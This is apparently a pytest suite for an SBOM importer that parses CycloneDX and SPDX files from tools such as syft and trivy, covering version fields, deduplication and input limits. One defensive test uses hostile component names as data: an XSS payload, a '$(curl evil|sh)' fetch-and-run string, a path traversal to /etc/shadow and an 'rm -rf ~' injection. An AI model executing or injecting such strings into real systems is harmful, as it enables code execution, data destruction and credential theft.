"""SBOM imports over real CycloneDX and SPDX documents (syft, trivy, cyclonedx-py, composer) and hostile ones."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime
from typing import Any

import pytest

from patchday.connectors.imports.sbom import Component, host_inventory, parse_sbom, read_sbom
from patchday.core.errors import InvalidImport, InvalidInput
from patchday.inventory.document import parse_document
from tests.unit.imports.conftest import fixture_bytes

SYFT_DEBIAN = [
    "syft-1.18.1-debian12-rootfs.cdx-1.6.json",
    "syft-1.18.1-debian12-rootfs.cdx-1.4.json",
    "syft-1.18.1-debian12-rootfs.spdx-2.3.json",
    "syft-1.18.1-debian12-rootfs.spdx-2.2.json",
]
NOW = datetime(2026, 11, 28, 9, 30, tzinfo=UTC)


def by_name(components: tuple[Component, ...]) -> dict[str, Component]:
    return {c.name: c for c in components}


@pytest.mark.parametrize("name", SYFT_DEBIAN)
def test_a_syft_sbom_of_a_debian_root_file_system(name: str) -> None:
    asset = parse_sbom(fixture_bytes(name), source=name)
    assert (asset.name, asset.version) == ("h1-rootfs", "2026-11-28")
    assert asset.os is not None
    assert (asset.os["id"], asset.os["version_id"]) == ("debian", "12")
    assert len(asset.components) == 18  # 15 dpkg packages and 3 Python distributions
    assert asset.skipped_count == 0
    found = by_name(asset.components)
    libssl = found["libssl3"]
    assert (libssl.ecosystem, libssl.version, libssl.source_name, libssl.source_version, libssl.arch) == (
        "Debian:12",
        "3.0.19-1~deb12u2",
        "openssl",
        "3.0.19-1~deb12u2",
        "amd64",
    )
    assert (found["bash"].source_name, found["bash"].source_version) == ("bash", "5.2.15-2")  # a binNMU
    assert found["zlib1g"].version == "1:1.2.13.dfsg-1"
    assert found["openssl"].source_name == ""  # its own source
    assert {c.name for c in asset.components if c.ecosystem == "PyPI"} == {"argon2-cffi", "django", "pygments"}
    order = [(c.ecosystem, c.name) for c in asset.components]
    assert order == sorted(order)


def test_cyclonedx_from_syft_is_a_host_because_it_names_the_os() -> None:
    asset = parse_sbom(fixture_bytes(SYFT_DEBIAN[0]))
    assert asset.kind == "host"
    assert asset.format == "CycloneDX 1.6"
    assert asset.os is not None
    assert asset.os["version_codename"] == "bookworm"
    assert asset.os["pretty_name"] == "Debian GNU/Linux 12 (bookworm)"


def test_spdx_from_syft_names_no_os_so_it_is_an_application_unless_the_caller_says_host() -> None:
    data = fixture_bytes("syft-1.18.1-debian12-rootfs.spdx-2.3.json")
    assert parse_sbom(data).kind == "application"
    assert parse_sbom(data, kind="host").kind == "host"


def test_trivy_centos_sboms_keep_rpm_epochs_and_source_rpms() -> None:
    cdx = parse_sbom(fixture_bytes("trivy-centos-7.cdx-1.5.json"))
    assert cdx.kind == "host"
    assert cdx.os is not None
    assert (cdx.os["id"], cdx.os["version_id"]) == ("centos", "7.6.1810")
    openssl = by_name(cdx.components)["openssl-libs"]
    assert (openssl.version, openssl.source_name, openssl.source_version) == (
        "1:1.0.2k-16.el7",
        "openssl",
        "1:1.0.2k-16.el7",
    )
    assert openssl.ecosystem == ""  # OSV has no CentOS ecosystem; kept for the host inventory
    spdx = parse_sbom(fixture_bytes("trivy-centos-7.spdx-2.2.json"))
    assert spdx.kind == "host"  # trivy's SPDX 2.2 names the OS package SPDXRef-OperatingSystem-*
    # The purl is authoritative: the fixture's versionInfo says only "4.2.46".
    assert by_name(spdx.components)["bash"].version == "4.2.46-31.el7"


def test_cyclonedx_py_environment_is_an_application_of_pypi_packages() -> None:
    asset = parse_sbom(fixture_bytes("cyclonedx-py-7.5.0-environment.cdx-1.6.json"))
    assert (asset.kind, asset.name, asset.version, asset.os) == ("application", "patchday", "0.1.0", None)
    assert {(c.ecosystem, c.name) for c in asset.components} >= {("PyPI", "requests"), ("PyPI", "pyyaml")}
    bare = parse_sbom(fixture_bytes("cyclonedx-py-7.5.0-environment-no-root.cdx-1.5.json"))
    assert bare.name == ""  # no metadata.component: the caller names the asset
    assert len(bare.components) == 8


def test_composer_components_are_packagist_with_vendor_names() -> None:
    asset = parse_sbom(fixture_bytes("cyclonedx-php-composer-laravel.cdx-1.4.trimmed.json"))
    assert asset.name == "cyclonedx/cyclonedx-php-composer-demo"
    assert [(c.ecosystem, c.name, c.version) for c in asset.components] == [
        ("Packagist", "asm89/stack-cors", "1.3.0"),
        ("Packagist", "brick/math", "0.9.3"),
        ("Packagist", "dragonmantank/cron-expression", "v2.3.1"),
    ]


def test_a_host_sbom_becomes_an_inventory_document_the_server_accepts() -> None:
    asset = parse_sbom(fixture_bytes(SYFT_DEBIAN[0]))
    document = host_inventory(asset, hostname="h1", collected_at=NOW)
    checked = parse_document(document)
    assert checked.os.id == "debian"
    assert checked.architecture == "x86_64"
    assert len(checked.packages) == 15
    assert len(checked.python_packages) == 3
    libc = next(p for p in checked.packages if p.name == "libc6")
    assert (libc.manager, libc.source, libc.source_version) == ("dpkg", "glibc", "2.36-9+deb12u14")
    openssl = next(p for p in checked.packages if p.name == "openssl")
    assert (openssl.source, openssl.source_version) == ("openssl", openssl.version)  # as the dpkg collector says
    assert any("pending updates" in e.message for e in checked.errors)


def test_components_become_installed_packages_for_matching() -> None:
    libssl = by_name(parse_sbom(fixture_bytes(SYFT_DEBIAN[0])).components)["libssl3"]
    installed = libssl.installed_package()
    assert (installed.matched_name, installed.matched_version, installed.ecosystem) == (
        "openssl",
        "3.0.19-1~deb12u2",
        "Debian:12",
    )


# -- hostile input ----------------------------------------------------------------------------------------


def cyclonedx(components: list[dict[str, Any]], spec: str = "1.6", **extra: Any) -> bytes:
    return json.dumps(
        {"bomFormat": "CycloneDX", "specVersion": spec, "version": 1, "components": components, **extra}
    ).encode()


def test_truncated_json_names_the_line() -> None:
    data = fixture_bytes(SYFT_DEBIAN[0])
    with pytest.raises(InvalidImport, match="not valid JSON") as caught:
        parse_sbom(data[: len(data) // 2], source="bom.json")
    assert caught.value.source == "bom.json"
    assert caught.value.line is not None
    assert isinstance(caught.value, InvalidInput)  # answered 422 by the API's one table


def test_wrong_spec_versions_are_refused_by_name() -> None:
    with pytest.raises(InvalidImport, match=r"specVersion '1\.3' is not supported") as caught:
        parse_sbom(fixture_bytes("syft-1.18.1-debian12-rootfs.cdx-1.3.trimmed.json"))
    assert caught.value.field == "specVersion"
    spdx = json.loads(fixture_bytes("syft-1.18.1-debian12-rootfs.spdx-2.3.json"))
    spdx["spdxVersion"] = "SPDX-2.1"
    with pytest.raises(InvalidImport, match=r"SPDX-2\.1"):
        read_sbom(spdx)
    with pytest.raises(InvalidImport, match="SPDX 3"):
        read_sbom({"@context": "https://spdx.org/rdf/3.0.1/spdx-context.jsonld", "@graph": []})
    with pytest.raises(InvalidImport, match="not a CycloneDX or SPDX"):
        read_sbom({"hello": "world"})


@pytest.mark.parametrize(
    ("document", "field"),
    [
        ({"bomFormat": "CycloneDX", "specVersion": "1.5", "components": {"a": 1}}, "components"),
        ({"bomFormat": "CycloneDX", "specVersion": "1.5", "components": ["pkg:pypi/x@1"]}, "components[0]"),
        (
            {"bomFormat": "CycloneDX", "specVersion": "1.5", "components": [{"name": 5, "purl": "pkg:pypi/x@1"}]},
            "components[0].name",
        ),
        ({"bomFormat": "CycloneDX", "specVersion": "1.5", "metadata": []}, "metadata"),
        ({"spdxVersion": "SPDX-2.3", "packages": "x"}, "packages"),
    ],
)
def test_documents_of_the_wrong_shape_name_the_field(document: dict[str, Any], field: str) -> None:
    with pytest.raises(InvalidImport) as caught:
        read_sbom(document)
    assert caught.value.field == field


def test_purl_garbage_is_skipped_and_counted_not_fatal() -> None:
    data = cyclonedx(
        [
            {"type": "library", "name": "ok", "version": "1.0", "purl": "pkg:pypi/ok@1.0"},
            {"type": "library", "name": "garbage", "purl": "not a purl"},
            {"type": "library", "name": "generic", "purl": "pkg:generic/thing@1"},
            {"type": "library", "name": "nopurl", "version": "1"},
            {"type": "file", "name": "/etc/passwd"},
        ]
    )
    asset = parse_sbom(data)
    assert [c.name for c in asset.components] == ["ok"]
    assert asset.skipped_count == 4
    assert any("malformed purl" in reason and "'garbage'" in reason for reason in asset.skipped)


def test_hostile_names_are_kept_as_data() -> None:
    names = ["<img src=x onerror=alert(1)>", "$(curl evil|sh)", "../../../../etc/shadow", "a;rm -rf ~"]
    data = cyclonedx([{"type": "library", "name": n, "purl": f"pkg:npm/{n.replace('/', '%2F')}@1.0.0"} for n in names])
    asset = parse_sbom(data)
    assert sorted(c.name for c in asset.components) == sorted(names)


def test_duplicate_components_are_deduplicated_deterministically() -> None:
    entries = [
        {"type": "library", "name": "libssl3", "purl": "pkg:deb/debian/libssl3@3.0.20-1?arch=i386&distro=debian-12"},
        {
            "type": "library",
            "name": "libssl3",
            "purl": "pkg:deb/debian/libssl3@3.0.20-1?arch=amd64&distro=debian-12&upstream=openssl",
        },
        {"type": "library", "name": "Requests", "purl": "pkg:pypi/Requests@2.31.0"},
        {"type": "library", "name": "requests", "purl": "pkg:pypi/requests@2.31.0"},
    ]
    forward = parse_sbom(cyclonedx(entries))
    backward = parse_sbom(cyclonedx(list(reversed(entries))))
    assert forward.components == backward.components
    assert forward.duplicates == 2
    libssl = by_name(forward.components)["libssl3"]
    assert (libssl.source_name, libssl.arch) == ("openssl", "amd64")  # the entry naming its source wins


def test_fifty_thousand_components_parse_quickly() -> None:
    entries = [{"type": "library", "name": f"p{i}", "purl": f"pkg:npm/p{i}@1.0.{i % 7}"} for i in range(50_000)]
    data = cyclonedx(entries)
    started = time.perf_counter()
    asset = parse_sbom(data)
    assert len(asset.components) == 50_000
    assert time.perf_counter() - started < 10
    with pytest.raises(InvalidImport, match="more than 40000 components"):
        parse_sbom(data, max_components=40_000)


def test_size_and_nesting_limits() -> None:
    with pytest.raises(InvalidImport, match="at most 100 are accepted"):
        parse_sbom(b" " * 101, max_bytes=100)
    nested: dict[str, Any] = {"type": "library", "name": "leaf", "purl": "pkg:npm/leaf@1.0.0"}
    for _ in range(20):
        nested = {"type": "library", "name": "wrap", "components": [nested]}
    with pytest.raises(InvalidImport, match="nest more than"):
        parse_sbom(cyclonedx([nested]))
    with pytest.raises(InvalidImport, match="nested too deeply"):
        parse_sbom(b"[" * 100_000 + b"]" * 100_000)


def test_invalid_utf8_names_the_byte() -> None:
    data = cyclonedx([{"type": "library", "name": "x", "purl": "pkg:npm/x@1.0.0"}]).replace(b'"x"', b'"\xff"', 1)
    with pytest.raises(InvalidImport, match=r"byte \d+ \(0xff\) is not valid UTF-8"):
        parse_sbom(data)


def test_nested_cyclonedx_components_are_read() -> None:
    data = cyclonedx(
        [
            {
                "type": "application",
                "name": "app",
                "purl": "pkg:npm/app@1.0.0",
                "components": [{"type": "library", "name": "dep", "purl": "pkg:npm/dep@2.0.0"}],
            }
        ]
    )
    assert [c.name for c in parse_sbom(data).components] == ["app", "dep"]
